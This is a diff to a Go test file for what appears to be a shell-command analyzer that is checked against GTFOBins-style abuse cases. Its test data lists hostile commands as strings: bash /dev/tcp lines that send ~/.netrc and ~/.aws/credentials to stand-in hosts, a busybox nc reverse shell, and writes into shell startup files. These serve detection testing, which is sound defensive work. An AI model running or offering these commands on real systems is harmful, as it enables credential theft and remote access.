@@ -13,8 +13,9 @@
 // Each example must be not understood, or understood with a mark naming
 // what runs (or, for the network functions, where the network goes; for
 // a credential read, the credential; for a write outside the directory,
-// that write). Each class mended has a benign twin in gtfoBenign: the same
-// program used normally stays understood with no mark.
+// that write). Each class the sweep found has a hostile case of its own
+// and a benign twin in TestGTFOBinsClasses: the same program used
+// normally stays understood with no mark.
 package commands
 
 import (
@@ -103,22 +104,6 @@ func TestGTFOBinsSweep(t *testing.T) {
 	}
 	t.Logf("%d examples of %d programs; %d understood with no mark", len(gtfoCases), len(programs), miss)
 }
-
-// The benign twins: each program of a mended class, used as people do.
-func TestGTFOBinsBenignTwins(t *testing.T) {
-	for _, c := range gtfoBenign {
-		a := testAnalyze([]string{"sh", "-c", c.script})
-		if !a.Understood {
-			t.Errorf("%s: %q is not understood:\n%s", c.prog, c.script, dump(a))
-			continue
-		}
-		for _, m := range a.Marks {
-			t.Errorf("%s: %q: a false alarm: %s", c.prog, c.script, m.Text)
-		}
-	}
-}
-
-var gtfoBenign = []gtfoCase{}
 
 // The classes the sweep found, each by a hostile case of its own (not a
 // GTFOBins example) and a benign twin.
@@ -617,6 +602,10 @@ var gtfoCases = []gtfoCase{
 	{prog: "bash", fn: "download", script: `bash -c 'echo "$(</dev/tcp/files.example.org/7031)" > /tmp/got'`},
 	{prog: "bash", fn: "upload", script: `bash -c 'echo "$(<~/.netrc)" > /dev/tcp/drop.example.net/7032'`},
 	{prog: "bash", fn: "upload", script: `bash -c 'printf "POST / HTTP/1.0\n\n%s" "$(<~/.aws/credentials)" > /dev/tcp/drop.example.net/7033'`},
+	{prog: "bash", fn: "file-write", script: `bash -c 'history -s id; history -w ~/.bash_profile'`},
+	{prog: "busybox", fn: "inherit:ash", script: `busybox ash`},
+	{prog: "busybox", fn: "reverse-shell", script: `busybox nc -e /bin/sh relay.example.org 7034`},
+	{prog: "busybox", fn: "upload", script: `busybox httpd -f -p 8014 -h .`},
 	{prog: "dash", fn: "shell", script: `dash`},
 	{prog: "dash", fn: "file-write", script: `dash -c 'echo id > ~/.profile'`},
 	{prog: "ash", fn: "shell", script: `ash`},
